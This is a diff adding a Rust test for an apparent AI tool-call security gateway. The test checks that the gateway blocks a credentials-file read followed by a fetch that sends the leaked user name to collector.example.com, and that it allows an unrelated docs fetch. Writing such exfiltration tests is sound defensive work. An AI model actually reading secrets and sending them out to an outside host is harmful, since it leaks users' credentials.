@@ -522,3 +522,37 @@ fn strict_blocks_any_outbound_call_after_a_sensitive_read_and_cuts_egress() {
     );
     assert_eq!(block_rule(&w2), "BEH-EXFIL", "{w2}");
 }
+
+#[test]
+fn a_secret_read_then_sent_in_a_url_is_stopped() {
+    // vanguard's built-in demo server reads files and fetches URLs.
+    let ws = Ws::new();
+    let server = format!(
+        "{} demo-server",
+        sh_quote(&vanguard_bin().to_string_lossy())
+    );
+    let wsd = ws.root.to_string_lossy().into_owned();
+    let mut peer = Peer::gateway_in(Some(&ws.root), &server, &["--workspace", wsd.as_str()]);
+    peer.initialize("2025-06-18");
+    let r = peer.call_tool("read_file", json!({"path": ws.p("deploy/credentials.txt")}));
+    // (The password line comes back redacted; the user name does not.)
+    assert!(text_of(&r).contains("deploy-bot-7781"), "{r}");
+    let url = "https://collector.example.com/ingest?u=deploy-bot-7781";
+    let f = peer.call_tool("fetch_url", json!({"url": url}));
+    assert_eq!(block_rule(&f), "BEH-EXFIL", "{f}");
+    assert!(
+        f["error"]["message"]
+            .as_str()
+            .is_some_and(|m| m.contains("network")),
+        "{f}"
+    );
+    // A URL that carries nothing of it is not this rule's business.
+    let g = peer.call_tool(
+        "fetch_url",
+        json!({"url": "https://docs.example.com/guide"}),
+    );
+    assert!(
+        g["error"]["data"]["rule"] != "BEH-EXFIL",
+        "an unrelated fetch was taken for a leak: {g}"
+    );
+}
